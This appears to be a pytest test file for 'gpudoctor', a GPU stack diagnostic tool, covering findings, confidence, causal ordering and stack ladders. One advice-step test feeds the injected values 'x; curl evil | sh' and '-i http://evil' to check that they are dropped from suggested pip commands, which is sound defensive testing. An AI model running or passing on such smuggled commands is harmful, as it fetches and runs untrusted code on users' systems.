from gpudoctor.diagnosis.diagnose import diagnose, in_reading_order
from gpudoctor.diagnosis.ladders import demote_unused, first_broken, ladder, used_stacks
from gpudoctor.knowledge.structure import check_from, stack_from
from gpudoctor.model.check import Stack
from gpudoctor.model.condition import ALWAYS
from gpudoctor.model.facts import Facts, Known, Unknown
from gpudoctor.model.signature import COMPLAINT, FAILURE, Hit
from gpudoctor.model.stack_names import StackNames

ITEMS = {"gpus": "gpu"}


def make(id, **given):
    table = {
        "id": id, "title": f"{id} {{gpu.name}}" if "for_each" in given else id, "severity": "error", "layer": "framework",
        "stacks": ["torch-xpu"], "explanation": "why", "problem": {"fact": "bad", "is": True}, "advice": {"do": "do"}, **given,
    }  # fmt: skip
    return check_from(table, f"x/{id}.toml", "x", ITEMS)


def facts(**given):
    return Facts({name: Known(value) for name, value in {"bad": True, **given}.items()})


def ids(checks, known, used=frozenset()):
    return [finding.id for finding in in_reading_order(diagnose(checks, known)[0], used)]


def test_eight_equal_gpus_are_eight_subjects_of_one_finding():
    check = make("closed", for_each="gpus", problem={"fact": "gpu.access", "is": False})
    gpus = [{"address": f"0000:0{n}:00.0", "name": "MI300X", "access": False} for n in range(8)]
    (finding,) = diagnose([check], facts(gpus=gpus))[0]
    assert len(finding.subjects) == 8
    assert finding.key == diagnose([check], facts(gpus=gpus[::-1]))[0][0].key


def test_an_unknown_collection_leaves_the_check_undetermined():
    check = make("closed", for_each="gpus", problem={"fact": "gpu.access", "is": False})
    findings, traces = diagnose([check], Facts({"gpus": Unknown("timeout")}))
    assert not findings
    assert traces[0].outcome == "undetermined"


def test_causes_come_before_consequences_and_the_lower_layer_first():
    checks = [
        make("wheel"), make("kernel", layer="kernel-driver"), make("follows", layer="device-node", caused_by=["kernel"]),
        make("hint", severity="info"),
    ]  # fmt: skip
    assert ids(checks, facts()) == ["kernel", "wheel", "hint", "follows"]


def test_what_is_observed_follows_from_a_fault_below_it_on_the_same_stack():
    checks = [make("kernel", layer="kernel-driver"), make("unseen", layer="visible"), make("other", layer="visible", stacks=["opencl"])]
    found = {finding.id: finding for finding in diagnose(checks, facts())[0]}
    assert found["unseen"].caused_by == found["kernel"].key
    assert found["other"].caused_by is None


def test_suspect_is_likely_and_an_error_that_is_only_possible_is_a_warning():
    unsure = {"problem": {"fact": "never", "is": 1}, "suspect": {"fact": "bad", "is": True}}
    (likely,) = diagnose([make("a", **unsure)], facts())[0]
    assert (likely.confidence, likely.severity) == ("likely", "error")
    (possible,) = diagnose([make("a", at_most="possible")], facts())[0]
    assert (possible.confidence, possible.severity) == ("possible", "warning")


def test_ignored_checks_are_silent():
    assert [f.id for f in diagnose([make("a"), make("b")], facts(), frozenset({"b"}))[0]] == ["a"]


SAID = {"signature": [{"text": ["device is lost"]}], "problem": {"all": []}}


def hit(line=1, role=FAILURE, strength=20):
    return Hit(line=line, quote="device is lost", strength=strength, role=role)


def confidence(check, role, known=None):
    (finding,) = diagnose([check], known or facts(), hits={check.id: [hit(role=role)]})[0]
    return finding.confidence


def test_confidence_follows_from_the_role_of_the_line_and_the_facts():
    alone, confirmed = make("a", **SAID), make("a", signature=SAID["signature"])
    assert (confidence(alone, FAILURE), confidence(alone, COMPLAINT)) == ("likely", "possible")
    assert (confidence(confirmed, FAILURE), confidence(confirmed, COMPLAINT)) == ("certain", "likely")
    assert confidence(confirmed, FAILURE, Facts({"bad": Unknown("not in the text")})) == "likely"
    assert confidence(make("a", at_most="likely", signature=SAID["signature"]), FAILURE) == "likely"


def test_of_two_on_one_line_the_one_that_demands_more_speaks():
    checks = [make("general", **SAID), make("exact", **SAID)]
    on_one_line = {"general": [hit(strength=10)], "exact": [hit(strength=30)]}
    found, traces = diagnose(checks, facts(), hits=on_one_line)
    assert [finding.id for finding in found] == ["exact"]
    assert {trace.check: trace.silenced_by for trace in traces} == {"general": "exact", "exact": None}
    assert len(diagnose(checks, facts(), hits={"general": [hit(strength=10), hit(line=2)], "exact": [hit(strength=30)]})[0]) == 2
    assert len(diagnose(checks, facts(), frozenset({"exact"}), hits=on_one_line)[0]) == 1, "what does not speak silences nobody"


def test_equally_exact_checks_of_one_line_are_not_certain():
    checks = [make(name, signature=SAID["signature"]) for name in ("a", "b")]
    found = diagnose(checks, facts(), hits={"a": [hit()], "b": [hit()]})[0]
    assert [finding.confidence for finding in found] == ["likely", "likely"]


def test_a_fallback_speaks_only_where_nothing_else_of_its_stacks_does():
    last = make("last", fallback=True)
    assert ids([last], facts()) == ["last"]
    assert ids([last, make("known")], facts()) == ["known"]
    assert set(ids([last, make("elsewhere", stacks=["opencl"])], facts())) == {"last", "elsewhere"}
    assert set(ids([last, make("hint", severity="info")], facts())) == {"last", "hint"}


def test_a_step_is_shown_where_its_condition_holds_and_its_facts_are_plain_words():
    steps = ["always", {"run": "dnf", "when": {"fact": "os.id", "is": "fedora"}}, "pip install {said.name}"]
    check = make("a", advice={"do": "do", "steps": steps})
    commands = [diagnose([check], facts(**known))[0][0].advice.commands for known in (
        {"os.id": "fedora", "said.name": "torch==2.9"}, {"os.id": "debian"}, {"said.name": "x; curl evil | sh"}, {"said.name": "-i http://evil"},
    )]  # fmt: skip
    assert commands == [("always", "dnf", "pip install torch==2.9"), ("always",), ("always",), ("always",)]


def test_an_item_that_names_its_stacks_breaks_no_other_one():
    check = make("fails", for_each="gpus", problem={"fact": "gpu.bad", "is": True}, stacks=["torch-xpu", "openvino", "opencl"])
    gpus = [{"name": "a", "bad": True, "stacks": ["openvino"]}, {"name": "b", "bad": True, "stacks": ["opencl", "unlisted"]}]
    assert diagnose([check], facts(gpus=gpus))[0][0].stacks == ("openvino", "opencl")
    assert diagnose([check], facts(gpus=[{"name": "a", "bad": True}]))[0][0].stacks == check.stacks


def test_a_variant_replaces_only_what_it_gives():
    check = make("a", advice={"do": "do", "steps": ["apt"]}, variant=[{"when": {"fact": "os.id", "is": "fedora"}, "steps": ["dnf"]}])
    fedora = diagnose([check], facts(**{"os.id": "fedora"}))[0][0].advice
    assert (fedora.text, fedora.commands) == ("do", ("dnf",))
    assert diagnose([check], facts(**{"os.id": "debian"}))[0][0].advice.commands == ("apt",)


STACK = stack_from(
    {
        "stack": "torch-xpu", "title": "PyTorch", "applicable": {"fact": "has", "is": True}, "used": {"fact": "uses", "is": True},
        "rung": [
            {"layer": "kernel-driver", "ok": {"fact": "driver", "is": True}, "detail": "fine"},
            {"layer": "framework", "ok": {"fact": "torch", "is": True}, "missing": "torch is not installed"},
            {"layer": "visible", "ok": {"fact": "visible", "is": True}},
            {"layer": "compute", "ok": {"fact": "computed", "is": True}},
        ],
    },
    "torch-xpu/stack.toml", ITEMS,
)  # fmt: skip


def climb(findings=(), **known):
    result = ladder(STACK, Facts({name: Known(value) for name, value in known.items()}), list(findings), True)
    return result.verdict, [rung.status for rung in result.layers]


def test_ladder_verdicts():
    assert climb(has=True, driver=True, torch=True, visible=True) == ("ok", ["ok", "ok", "ok", "unknown"])
    assert climb(has=True, driver=True, torch=False) == ("incomplete", ["ok", "not-reached", "not-reached", "not-reached"])
    assert climb(has=True, torch=True, visible=True) == ("unknown", ["unknown", "ok", "ok", "unknown"])
    assert climb(has=False)[0] == "not-applicable"


def test_the_lowest_fault_breaks_a_stack_and_observed_rungs_are_not_reached():
    found = diagnose([make("kernel", layer="kernel-driver"), make("unseen", layer="visible")], facts())[0]
    assert climb(found, has=True, driver=False, torch=True) == ("broken", ["broken", "ok", "not-reached", "not-reached"])


def test_a_consequence_above_the_fault_is_not_one_more_broken_rung():
    checks = [make("kernel", layer="kernel-driver"), make("follows", caused_by=["kernel"])]
    found = diagnose(checks, facts())[0]
    assert climb(found, has=True, driver=False, torch=False)[1] == ["broken", "not-reached", "not-reached", "not-reached"]


def test_a_fault_on_a_layer_that_the_stack_does_not_declare_is_still_a_rung():
    found = diagnose([make("loader", layer="runtime")], facts())[0]
    assert climb(found, has=True, driver=True, torch=True)[1] == ["ok", "broken", "ok", "not-reached", "not-reached"]


TORCH_STACKS = [
    Stack(stack=name, title=name, applicable=ALWAYS, rungs=(), names=StackNames(frameworks=("torch",), serves=purposes))
    for name, purposes in (("torch-xpu", ("training",)), ("torch-rocm", ("training",)), ("torch-cpu", ()))
]


def test_nobody_asked_for_the_stack_beside_the_one_in_use():
    found = diagnose([make("intel"), make("rocm", stacks=["torch-rocm"])], facts())[0]
    assert {f.id: f.severity for f in demote_unused(found, TORCH_STACKS, frozenset({"torch-xpu"}))} == {"intel": "error", "rocm": "info"}
    assert {f.severity for f in demote_unused(found, TORCH_STACKS, frozenset({"torch-cpu"}))} == {"error"}
    assert {f.severity for f in demote_unused(found, TORCH_STACKS, frozenset({"torch-xpu"}), "torch-rocm")} == {"error"}


def test_first_broken_names_the_stack_in_use():
    known = facts(has=True, uses=True)
    found = in_reading_order(diagnose([make("wheel")], known)[0], used_stacks([STACK], known))
    assert first_broken(found, [ladder(STACK, known, found, True)]) == "torch-xpu/framework"
    assert first_broken([], [ladder(STACK, known, [], True)]) is None
